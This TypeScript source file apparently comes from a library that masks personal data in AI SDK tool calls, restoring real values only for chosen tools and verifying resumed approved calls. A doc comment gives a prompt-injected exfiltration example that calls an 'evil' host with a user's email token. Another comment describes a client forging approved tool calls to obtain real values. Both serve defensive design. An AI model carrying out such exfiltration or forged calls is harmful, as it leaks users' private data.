import type { ToolSet } from 'ai';
import { checkOptions, type OptionKeys } from '../core/check-options';
import { PiiConfigError } from '../core/errors';
import type { InventedTokenPolicy } from '../core/restore';
import type { PiiSession } from '../core/session';
import type { ToolStrategy } from '../core/tool-strategy';
import { queueChangedLeaves } from './prompt/changed-leaves';
import { StringBatch } from './prompt/string-batch';
import { aiSessionState, modelToolCallInput } from './session-state';
import { callAndMask, createToolResultMasker, settleOutput } from './tools/mask-tool-result';
import {
  type ResolvedToolPlan,
  resolveToolPlans,
  type ToolRestoreOption,
  type ToolRevealOption,
  type ToolStrategyOption,
} from './tools/resolve-strategy';
import { createToolInputRestorer, type PreparedInput } from './tools/restore-input-schema';
import { type ToolCallReport, toolCallReporter } from './tools/tool-call-report';
import { createToolCallVerifier, type ToolCallVerifier } from './tools/verify-tool-calls';

export type { ToolRestoreOption, ToolRevealOption, ToolStrategyOption };

/** What to do with a tool call that `execute` receives from the history (a resumed approval). */
export type ResumedToolCallPolicy = 'verify' | 'trust';

const RESUMED_CALL_POLICIES: readonly ResumedToolCallPolicy[] = ['verify', 'trust'];

/** What the model reads of an `input` tool's result. */
export type InputResultsPolicy = 'as-returned' | 'mask-known';

const INPUT_RESULTS_POLICIES: readonly InputResultsPolicy[] = ['as-returned', 'mask-known'];

// Values the app adds to a call are its own text, as in `piiMiddleware`.
const APP_TEXT = { role: 'user', tokens: 'keep', origin: { kind: 'app' } } as const;

const WITH_PII_TOOLS_KEYS = {
  session: { required: 'the conversation, pii.session(chatId)' },
  strategy: 'optional',
  invented: 'optional',
  restore: 'optional',
  resumedCalls: 'optional',
  inputResults: 'optional',
  reveal: 'optional',
} as const satisfies OptionKeys<WithPiiToolsOptions>;

export interface WithPiiToolsOptions<TOOLS extends ToolSet = ToolSet> {
  /** The conversation whose tokens the tools' arguments hold. */
  session: PiiSession;
  /**
   * `full` (default: real values in, result masked), `input` (real values in, result in
   * clear), `output` (tokens in, result masked) or `passthrough` (nothing touched); or one per
   * tool, e.g. `{ default: 'full', fetchUrl: 'output' }`.
   */
  strategy?: ToolStrategyOption<Extract<keyof TOOLS, string>>;
  /**
   * A well-formed token in the arguments that the conversation never issued: `throw` (default:
   * the tool does not run and the model reads an error naming the token, so it can retry),
   * `remove` (the token is deleted) or `keep` (the tool receives the token as written).
   */
  invented?: InventedTokenPolicy;
  /**
   * Per tool, the only labels whose real values it receives; tokens of other labels stay
   * tokens. The defence against exfiltration through tools: with `{ fetchUrl: ['URL'] }`, a
   * prompt-injected `fetchUrl("https://evil/?q=<<EMAIL:1>>")` never sends the address.
   */
  restore?: ToolRestoreOption<Extract<keyof TOOLS, string>>;
  /**
   * A tool call that `execute` receives from the message history rather than from the model
   * (an approved `needsApproval` call, resumed in a later request): `verify` (default) restores
   * its arguments only if the model really proposed that call (same id, tool and arguments),
   * as recorded in the vault store; otherwise the tool does not run and the model reads a
   * `PiiUnverifiedToolCallError`. `trust` restores any such call: a client that forges one
   * gets the tool run on the real values of any token it names. Only `full` and `input` tools
   * are concerned (the others never receive real values).
   */
  resumedCalls?: ResumedToolCallPolicy;
  /**
   * What the model reads of the results of `input` tools: `as-returned` (default: the result
   * as the tool gave it, BR-TOOL-02; token-shaped text in it is neutralised, G8) or
   * `mask-known` (the values the conversation already knows are masked in it, in any case,
   * spacing or encoding the sweep reads; values it does not know stay in clear, as no
   * detector runs). Applied by `piiMiddleware` on every model call; steps, the UI stream and
   * `onStepFinish` keep the result as returned.
   */
  inputResults?: InputResultsPolicy;
  /**
   * Per tool, `false` for a tool whose results the user may not see (a colleague's record, a
   * lookup of other customers): the values first found in its results (origin `{ kind: 'tool',
   * tool: name }`) are never sent to the browser nor restored for display by this session's UI
   * message stream and restore transform, whatever the model is asked to write and whatever
   * their `reveal` policy says. A value the conversation met first elsewhere (the user typed
   * it) keeps that origin. Default `true` for every tool.
   *
   * @example
   * reveal: { lookupColleague: false }
   */
  reveal?: ToolRevealOption<Extract<keyof TOOLS, string>>;
}

type AnyTool = ToolSet[string];

/** The property list of a tool, own and non-enumerable ones included (e.g. `experimental_toolCaller`). */
function copyWith<TOOL extends object>(tool: TOOL, overrides: Record<string, unknown>): TOOL {
  const descriptors: PropertyDescriptorMap = Object.getOwnPropertyDescriptors(tool);
  for (const [key, value] of Object.entries(overrides)) {
    descriptors[key] = { value, writable: true, enumerable: true, configurable: true };
  }
  return Object.create(Object.getPrototypeOf(tool), descriptors) as TOOL;
}

/** Call ids announced by the SDK (calls the model wrote in this request), kept at most this many. */
const MAX_ANNOUNCED = 1_000;

function wrapTool<TOOL extends AnyTool>(
  name: string,
  tool: TOOL,
  plan: ResolvedToolPlan,
  session: PiiSession,
  invented: InventedTokenPolicy,
  resumedCalls: ResumedToolCallPolicy,
): TOOL {
  const execute = tool.execute;
  // Provider-executed tools and client-side tools have no `execute`: the SDK never runs them.
  if (typeof execute !== 'function') return tool;
  const reporter = session.reporting
    ? toolCallReporter(session, name, plan.strategy, invented)
    : undefined;
  if (plan.strategy === 'passthrough') {
    return reporter ? reportedPassthrough(tool, reporter) : tool;
  }

  type Options = Parameters<NonNullable<TOOL['execute']>>[1];
  const input = createToolInputRestorer({
    session,
    inputSchema: tool.inputSchema,
    mode: plan.strategy === 'output' ? 'tokens' : 'restore',
    invented,
    labels: plan.labels,
    ...(reporter
      ? {
          onRefused: ({ reason, invented: refused, tally }) =>
            reporter.begin().refused(reason, refused, tally),
        }
      : {}),
  });
  const mask = masksResult(plan.strategy)
    ? createToolResultMasker(session, plan.strategy === 'output' ? 'keep' : 'neutralize', name)
    : undefined;
  // Only tools given real values need to know that a call comes from the model.
  const calls: ToolCallVerifier | undefined =
    resumedCalls === 'verify' && plan.strategy !== 'output'
      ? createToolCallVerifier(session, name)
      : undefined;
  // With `resumedCalls: 'trust'`, the calls the model wrote in this request, to tell the
  // resumed ones apart in the audit trail.
  const announced = new Set<string>();
  const trusted = (toolCallId: unknown): 'trusted' | undefined => {
    if (resumedCalls !== 'trust' || plan.strategy === 'output') return undefined;
    if (typeof toolCallId === 'string' && announced.delete(toolCallId)) return undefined;
    return 'trusted';
  };

  // Not `async`: when the tool returns an async iterable (preliminary results), so must this.
  function wrappedExecute(this: unknown, toolInput: unknown, options: Options): unknown {
    const report: ToolCallReport | undefined = reporter?.begin();
    const toolCallId = (options as { toolCallId?: unknown } | undefined)?.toolCallId;
    const run = (ready: PreparedInput, approval?: 'verified' | 'trusted') => {
      const call = () => execute!.call(this, ready.value as never, options as never);
      if (!report) return mask ? callAndMask(call, mask) : call();
      const result = mask ? callAndMask(call, report.counting(mask)) : callOnce(call);
      return report.settle(result, ready.tally, approval);
    };
    // Consumed in every case: real values live only until the tool runs.
    const taken = input.take(toolInput);
    if (calls) {
      // The SDK also validates resumed calls (ai@6 even on the very object that `execute`
      // gets), so a validated input proves nothing: the call must have been recorded.
      if (taken && calls.recordedHere(toolCallId, toolInput)) return run(taken);
      return calls
        .verify(toolCallId, toolInput)
        .then(
          () => (taken ? taken : input.prepare(toolInput)),
          async (error) => {
            await report?.refused('unverified-call', {}, undefined);
            throw error;
          },
        )
        .then((ready) => settleOutput(run(ready, 'verified')));
    }
    if (taken) return run(taken, trusted(toolCallId));
    // Input that our schema did not see (an approved call resumed in a later request, a tool
    // without schema, a direct call): restore and validate now. The result is then a promise,
    // so an iterable result is settled to its final value.
    return input.prepare(toolInput).then((ready) => settleOutput(run(ready, trusted(toolCallId))));
  }

  const onInputAvailable = tool.onInputAvailable;
  // The SDK calls it, and awaits it, only for a call that it parsed from the model's output:
  // the one place where a call is known to come from the model, and where its final input
  // (after `experimental_refineToolInput`) is seen in the request that the model wrote it in.
  async function announcedOnInputAvailable(
    this: unknown,
    event: { toolCallId: string; input: unknown },
  ): Promise<void> {
    if (reporter && resumedCalls === 'trust' && typeof event.toolCallId === 'string') {
      announced.add(event.toolCallId);
      for (const oldest of announced) {
        if (announced.size <= MAX_ANNOUNCED) break;
        announced.delete(oldest);
      }
    }
    await learnAddedValues(session, event.toolCallId, event.input);
    if (calls) await calls.record(event.toolCallId, event.input);
    if (typeof onInputAvailable === 'function') await onInputAvailable.call(this, event as never);
  }

  return copyWith(tool, {
    execute: wrappedExecute,
    ...(input.inputSchema !== undefined ? { inputSchema: input.inputSchema } : {}),
    onInputAvailable: announcedOnInputAvailable,
  });
}

/** Calls a tool; a synchronous throw becomes a rejection, as the SDK reads it. */
function callOnce(call: () => unknown): unknown {
  try {
    return call();
  } catch (error) {
    return Promise.reject(error);
  }
}

/** A `passthrough` tool, as it is but for the `tool-call` event of each call. */
function reportedPassthrough<TOOL extends AnyTool>(
  tool: TOOL,
  reporter: { begin(): ToolCallReport },
): TOOL {
  const execute = tool.execute!;
  return copyWith(tool, {
    execute(this: unknown, toolInput: unknown, options: unknown) {
      const report = reporter.begin();
      return report.settle(
        callOnce(() => execute.call(this, toolInput as never, options as never)),
        undefined,
      );
    },
  });
}

/**
 * Gives tokens to the values that the app added to a tool call after the model wrote it
 * (ai@7's `experimental_refineToolInput`), so that they are known values from now on: masked
 * in the next prompt, and in a later request whose history carries the call (an approval, a
 * call that ended the request), as any value of the conversation.
 */
async function learnAddedValues(session: PiiSession, toolCallId: unknown, input: unknown) {
  const written = modelToolCallInput(session, toolCallId);
  if (!written) return;
  const batch = new StringBatch();
  queueChangedLeaves(batch, input, written.value);
  await batch.run((texts, o) => session.anonymizeMany(texts, o), APP_TEXT);
}

const masksResult = (strategy: ToolStrategy) => strategy === 'full' || strategy === 'output';

/**
 * Wraps a tool set so that tools act on real values while the model only ever sees tokens:
 * arguments are restored before `execute` (and before schema validation, so
 * `z.string().email()` accepts `<<EMAIL:1>>`), results are masked before the model reads
 * them, and the tool call recorded in steps, messages and the UI stream keeps its tokens.
 * Each tool's strategy is recorded on `session.toolStrategies` for `piiMiddleware`.
 *
 * Returns a tool set of the same type; every property of each tool is kept, and tools without
 * `execute` (provider-executed, client-side) are returned as they are. Calls proposed by the
 * model are recorded in the vault store, so that an approved call resumed in a later request
 * is restored only if the model really proposed it (`resumedCalls`).
 *
 * @example
 * import { streamText, tool, wrapLanguageModel } from 'ai';
 * import { piiMiddleware, withPiiTools } from 'ai-sdk-pii';
 *
 * const session = pii.session(chatId);
 * const result = streamText({
 *   model: wrapLanguageModel({ model, middleware: piiMiddleware({ session }) }),
 *   tools: withPiiTools(
 *     { sendEmail, fetchUrl },
 *     { session, strategy: { default: 'full', fetchUrl: 'output' }, restore: { sendEmail: ['EMAIL', 'PERSON'] } },
 *   ),
 *   messages,
 * });
 */
export function withPiiTools<TOOLS extends ToolSet>(
  tools: TOOLS,
  options: WithPiiToolsOptions<TOOLS>,
): TOOLS {
  checkOptions('withPiiTools', options, WITH_PII_TOOLS_KEYS);
  const session = options.session;
  if (
    typeof session?.restoreValue !== 'function' ||
    typeof session.anonymize !== 'function' ||
    !(session.toolStrategies instanceof Map)
  ) {
    throw new PiiConfigError(
      'withPiiTools(tools, { session }): `session` must be a PiiSession from pii.session(chatId).',
    );
  }
  if (typeof tools !== 'object' || tools === null) {
    throw new PiiConfigError(
      'withPiiTools(tools, options): `tools` must be a tool set (an object of tools).',
    );
  }
  const plans = resolveToolPlans(Object.keys(tools), options);
  const invented = options.invented ?? 'throw';
  const resumedCalls = options.resumedCalls ?? 'verify';
  if (!RESUMED_CALL_POLICIES.includes(resumedCalls)) {
    throw new PiiConfigError(
      `withPiiTools: unknown \`resumedCalls\` choice ${JSON.stringify(resumedCalls)}. Use one of ${RESUMED_CALL_POLICIES.map((p) => JSON.stringify(p)).join(', ')}.`,
    );
  }
  const inputResults = options.inputResults ?? 'as-returned';
  if (!INPUT_RESULTS_POLICIES.includes(inputResults)) {
    throw new PiiConfigError(
      `withPiiTools: unknown \`inputResults\` choice ${JSON.stringify(inputResults)}. Use one of ${INPUT_RESULTS_POLICIES.map((p) => JSON.stringify(p)).join(', ')}.`,
    );
  }
  const { maskKnownResults: maskKnown, hiddenTools } = aiSessionState(session);
  const wrapped: Record<string, AnyTool> = {};
  for (const [name, plan] of plans) {
    session.toolStrategies.set(name, plan.strategy);
    if (plan.reveal) hiddenTools.delete(name);
    else hiddenTools.add(name);
    if (plan.strategy === 'input' && inputResults === 'mask-known') maskKnown.add(name);
    else maskKnown.delete(name);
    wrapped[name] = wrapTool(name, tools[name]!, plan, session, invented, resumedCalls);
  }
  return wrapped as TOOLS;
}
